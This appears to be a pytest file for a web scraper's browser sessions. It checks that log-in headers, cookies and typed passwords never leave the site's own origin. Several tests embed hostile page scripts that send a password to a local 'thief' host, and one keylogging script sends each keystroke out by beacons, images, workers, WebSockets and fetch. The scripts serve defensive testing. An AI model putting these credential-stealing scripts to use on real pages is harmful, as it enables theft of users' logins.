"""What a log-in carries goes to its own website only in the browser, too, and so does what is typed."""

import json
import re
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

import pytest

from hoistscraper.accounts.kinds import RecordedCredential
from hoistscraper.accounts.sessions import session_for
from hoistscraper.accounts.steps import Click, Fill, Step, Wait
from hoistscraper.accounts.taking import StepTaker
from hoistscraper.fetching.browsing.one_browser import OneBrowser
from hoistscraper.fetching.errors import AddressRefused
from hoistscraper.fetching.http import Fetcher
from hoistscraper.fetching.site_session import LogInFailed, SiteSession
from tests.fetching.browsing.conftest import browser_for, browser_in
from tests.fetching.browsing.internet import Internet
from tests.fetching.conftest import settings_for
from tests.sites import Exchange, Site
from tests.sites.answers import body, page, redirect
from tests.sites.scripted_members import log_in_page

KEY, PASSWORD = "marker-key-93571", "marker pass: 7&%é"
FINE = body(page("Fine", "Open calls for members. " * 20))
ASKING = """<!doctype html><title>Calls</title><p id=told>nothing</p><script>
fetch("{url}").then(answer => answer.text()).catch(String)
  .then(text => document.getElementById("told").textContent = text);
</script>"""


def session_of(url: str) -> SiteSession:
    """Return a session with a header and a cookie."""
    return SiteSession(
        url, given="the header X-Key", headers={"X-Key": KEY}, cookies={"sid": KEY}, secrets=(KEY,)
    )


def saw_secret(site: Site) -> bool:
    """Whether any request to a site had a secret in it, as it was or encoded."""
    told = str(site.requests)
    return any(mark in told for mark in ("marker", "bWFya2Vy"))


async def test_header_and_cookie_go_with_every_request_to_the_website_itself() -> None:
    told = body("told", kind="text/plain")
    async with (
        Site({"/": body(ASKING.format(url="/told")), "/told": told}) as site,
        browser_for(site) as browser,
    ):
        session = session_of(site.url())
        rendered = await browser.render(site.url(), website=session.context, session=session)
    assert "told" in rendered.html
    for path in ("/", "/told"):
        asked = next(request.headers for request in site.requests if request.path == path)
        assert (asked["x-key"], asked["cookie"]) == (KEY, f"sid={KEY}")


@pytest.mark.parametrize("status", [302, 307])
@pytest.mark.parametrize("by_script", [True, False], ids=["script", "document"])
async def test_a_redirect_takes_nothing_to_another_host(status: int, *, by_script: bool) -> None:
    async with Site({"/": body("<p>there", access_control_allow_origin="*")}, host="127.0.0.2") as other:
        away = redirect(other.url(), status)
        routes = {"/": body(ASKING.format(url="/away")), "/away": away} if by_script else {"/": away}
        async with Site(routes) as site, browser_for(site, other) as browser:
            session = session_of(site.url())
            rendered = await browser.render(site.url(), website=session.context, session=session)
    assert "there" in rendered.html
    assert saw_secret(site)
    assert other.requests
    assert not saw_secret(other)


async def test_scripts_of_the_page_take_nothing_to_third_parties() -> None:
    async with Site(
        {"/": body("there", access_control_allow_origin="*"), "/s.js": body("1", kind="text/javascript")},
        host="127.0.0.2",
    ) as other:
        shown = ASKING.format(url=other.url()) + f'<script src="{other.url("/s.js")}"></script>'
        async with Site({"/": body(shown)}) as site, browser_for(site, other) as browser:
            session = session_of(site.url())
            rendered = await browser.render(site.url(), website=session.context, session=session)
    assert "there" in rendered.html
    assert other.visits("/s.js")
    assert not saw_secret(other)


async def test_another_port_of_the_host_is_not_even_asked() -> None:
    worker = "new Worker(URL.createObjectURL(new Blob([`fetch('{url}', {{credentials: 'include'}})`])))"
    async with Site({"/": body("there", access_control_allow_origin="*")}) as other:
        routes = {
            "/": body(
                ASKING.format(url=other.url()).replace(
                    "</script>", f";{worker.format(url=other.url())}</script>"
                )
            )
        }
        async with Site(routes) as site, browser_for(site, other) as browser:
            session = session_of(site.url())
            rendered = await browser.render(site.url(), website=session.context, session=session)
            refusals = browser.refusals(session.context)
    assert "Failed to fetch" in rendered.html
    assert other.requests == []
    assert "another website" in refusals[0].message


async def test_what_a_script_says_itself_in_the_same_header_stays() -> None:
    own = 'fetch("/told", {headers: {"X-Key": "my own"}})'
    shown = ASKING.replace('fetch("{url}")', own)
    async with Site({"/": body(shown), "/told": body("told")}) as site, browser_for(site) as browser:
        session = session_of(site.url())
        await browser.render(site.url(), website=session.context, session=session)
    asked = next(request.headers for request in site.requests if request.path == "/told")
    assert asked["x-key"] == "my own"


@pytest.mark.parametrize(
    "script", ['history.pushState(0, "", address)', "fetch(address)", "location = address"]
)
async def test_no_address_shows_a_secret(script: str) -> None:
    put_together = f'const address = "/?k={KEY[:6]}" + "{KEY[6:]}"'
    site = Site({"/": body(f"<!doctype html><p>Calls</p><script>{put_together};{script}</script>")})
    async with site, browser_for(site) as browser:
        session = session_of(site.url())
        try:
            shown = str(await browser.render(site.url(), website=session.context, session=session))
        except AddressRefused as refused:
            shown = f"{refused} {refused.url}"
    assert f"k={KEY}" not in shown
    assert not any("?" in request.path for request in site.requests)


async def test_cookies_keep_to_the_hosts_that_the_website_set_them_for() -> None:
    script = """document.cookie = "wide=new; Domain=portal.example; Path=/";
    document.cookie = "gone=; max-age=0";
    fetch("http://sub.portal.example/", {mode: "no-cors", credentials: "include"}).catch(String)"""
    async with (
        Site({"/": body(f"<p>Calls</p><script>{script}</script>")}) as site,
        Site({"/": FINE}) as below,
    ):
        names = {"www.portal.example": ["5.5.5.5"], "sub.portal.example": ["6.6.6.6"]}
        internet = Internet(names, {"5.5.5.5": site, "6.6.6.6": below})
        async with browser_in(internet) as browser:
            session = SiteSession("http://www.portal.example/", given="the cookies", cookies={"given": "1"})
            session.jar.update_cookies_from_headers(
                ["wide=old; Domain=portal.example; Path=/", "gone=1; Path=/"], session.home
            )
            await browser.render("http://www.portal.example/", website=session.context, session=session)
    first, second = (one.requests[0].headers["cookie"] for one in (site, below))
    assert sorted(first.split("; ")) == ["given=1", "gone=1", "wide=old"]
    assert second == "wide=new"
    kept = session.jar.filter_cookies(session.home)
    assert {name: morsel.value for name, morsel in kept.items()} == {"given": "1", "wide": "new"}


async def test_a_forgotten_website_gets_no_cookie_of_the_visit_before() -> None:
    async with Site({"/": FINE}) as site, browser_for(site) as browser:
        session = session_of(site.url())
        await browser.render(site.url(), website=session.context, session=session)
        await browser.forget(session.context)
        await browser.render(site.url(), website=session.context)
    first, second = (request.headers for request in site.requests if request.path == "/")
    assert {"cookie", "x-key"} <= first.keys()
    assert not {"cookie", "x-key"} & second.keys()


STEPS: tuple[Step, ...] = (
    Fill("#user", "reader"),
    Fill("#password", PASSWORD, is_asked=True),
    Click("button"),
    Wait(".welcome", 2),
)


@asynccontextmanager
async def logging_in(site: Site, *others: Site, steps: tuple[Step, ...] = STEPS) -> AsyncIterator[Fetcher]:
    """Open a fetcher whose session logs in by steps in a browser."""
    settings = settings_for(site, *others)
    async with OneBrowser(settings) as browser:
        credential = RecordedCredential(url=site.url("/login"), steps=steps)
        taker = StepTaker(browser, page_seconds=10)
        session = session_for(credential, site.url(), run_steps=taker)
        async with Fetcher(settings, session=session) as fetcher:
            yield fetcher


async def failure_of(site: Site, *others: Site, steps: tuple[Step, ...] = STEPS) -> str:
    """Return why a log-in failed."""
    async with logging_in(site, *others, steps=steps) as fetcher:
        with pytest.raises(LogInFailed) as failed:
            await fetcher.fetch(site.url())
    assert "marker" not in f"{failed.value} {failed.value!r}"
    assert failed.value.__cause__ is None
    assert failed.value.__context__ is None
    return str(failed.value)


POSTING = """<!doctype html><title>Log in</title><form method="{method}" action="{url}">
<input id="user" name="u"><input id="password" type="password" name="p"><button>Log in</button></form>
{more}"""
SENDING = {
    "form": "",
    "get form": "",
    "script": """document.querySelector("form").onsubmit = () => {{
        fetch("{url}", {{method: "POST", body: JSON.stringify({{p: password.value}})}}); return false; }}""",
    "form's own script": """document.querySelector("form").onsubmit = () => {{
        location = "{url}?" + btoa(unescape(encodeURIComponent(password.value))); return false; }}""",
}


@pytest.mark.parametrize("way", SENDING)
async def test_what_is_typed_is_not_sent_to_another_origin(way: str) -> None:
    async with Site(
        {"/take": body("<p>Thank you", access_control_allow_origin="*")}, host="127.0.0.2"
    ) as thief:
        script = f"<script>{SENDING[way].format(url=thief.url('/take'))}</script>"
        method = "get" if way == "get form" else "post"
        form = POSTING.format(url=thief.url("/take"), method=method, more=script)
        async with Site({"/": FINE, "/login": body(form)}) as site:
            said = await failure_of(site, thief)
    assert "Step 3 of the recorded log-in (click button)" in said
    if way != "get form":
        assert f"sends what is typed to {thief.url('').rstrip('/')}, where it was not sent" in said
    assert thief.requests == []


async def test_what_is_typed_reaches_nobody_by_any_other_way_either() -> None:
    """A page that carries off each letter: pictures, beacons, workers, sockets, and one opened before."""
    script = """<script>
    const early = new WebSocket("{ws}/early");
    const worker = new Worker(URL.createObjectURL(new Blob(
      [`onmessage = e => fetch("{url}/worker?" + e.data, {{mode: "no-cors"}})`])));
    password.oninput = () => {{
      const told = btoa(unescape(encodeURIComponent(password.value)));
      new Image().src = "{url}/picture?" + told; navigator.sendBeacon("{url}/beacon", told);
      worker.postMessage(told); new WebSocket("{ws}/late?" + told);
      if (early.readyState == 1) early.send(told); open("{url}/popup?" + told);
      fetch("{url}/fetch?" + told, {{mode: "no-cors", keepalive: true}});
    }};</script>"""
    async with Site({}, host="127.0.0.2") as thief:
        base = thief.url("").rstrip("/")
        form = POSTING.format(
            url="/session",
            method="post",
            more=script.format(url=base, ws=base.replace("http", "ws")),
        )
        session = redirect("/welcome", 303)
        welcome = body('<p class="welcome">Welcome to the open calls. <a href="/logout">Log out</a>')
        routes = {"/": FINE, "/login": body(form), "/session": session, "/welcome": welcome}
        async with Site(routes) as site, logging_in(site, thief) as fetcher:
            assert "Open calls" in (await fetcher.fetch(site.url())).text
    assert [request.path for request in thief.requests] == ["/early"]


async def test_a_server_may_send_the_reader_on_with_empty_hands() -> None:
    welcome = body('<p class="welcome">Welcome to the open calls. <a href="/logout">Log out</a>')
    async with Site({"/welcome": welcome}, host="127.0.0.2") as other:
        form = POSTING.format(url="/session", method="post", more="")
        routes = {"/": FINE, "/login": body(form), "/session": redirect(other.url("/welcome"), 303)}
        async with Site(routes) as site, logging_in(site, other) as fetcher:
            assert "Open calls" in (await fetcher.fetch(site.url())).text
    assert other.visits("/welcome") == 1
    assert not saw_secret(other)


async def test_a_redirect_does_not_take_what_was_typed_along() -> None:
    async with Site({"/take": FINE}, host="127.0.0.2") as thief:
        form = POSTING.format(url="/session", method="post", more="")
        async with Site(
            {"/": FINE, "/login": body(form), "/session": redirect(thief.url("/take"), 307)}
        ) as site:
            said = await failure_of(site, thief)
    assert "where it was not sent" in said
    assert thief.requests == []


@pytest.mark.parametrize(
    ("steps", "said"),
    [
        ((Fill("#nobody", PASSWORD),), r"Step 1 .*\(fill #nobody\): no such field could be filled in"),
        (
            (
                Fill("#user", PASSWORD),
                Click("button["),
            ),
            r"Step 2 .*\(click button\[\): it is no CSS selector",
        ),
        ((Click("#nobody"),), r"\(click #nobody\): nothing there could be clicked within 1 second"),
        ((Wait("#nobody", 0.5),), r"\(wait #nobody\): it did not show within 0.5 seconds"),
        ((Fill("#user", "reader"),), "does not accept the recorded log-in"),
    ],
)
async def test_a_step_that_cannot_be_taken_is_told_by_number_and_selector(
    monkeypatch: pytest.MonkeyPatch, steps: tuple[Step, ...], said: str
) -> None:
    monkeypatch.setattr("hoistscraper.accounts.taking.STEP_SECONDS", 1.0)
    async with Site({"/": FINE, "/login": body(log_in_page())}) as site:
        told = await failure_of(site, steps=steps)
    assert re.search(said, told), told


async def test_the_cookies_of_a_recorded_log_in_serve_plain_requests() -> None:
    async def check(exchange: Exchange) -> None:
        told = json.loads(exchange.request.body)
        assert told == {"user": "reader", "password": PASSWORD}
        await exchange.send("{}", set_cookie="sid=earned; Path=/; HttpOnly")

    welcome = body('<p class="welcome">Welcome to the open calls. <a href="/logout">Log out</a>')
    site = Site({"/": FINE, "/login": body(log_in_page()), "/api/log-in": check, "/welcome": welcome})
    async with site, logging_in(site) as fetcher:
        await fetcher.fetch(site.url())
    assert site.requests[-1].headers["cookie"] == "sid=earned"
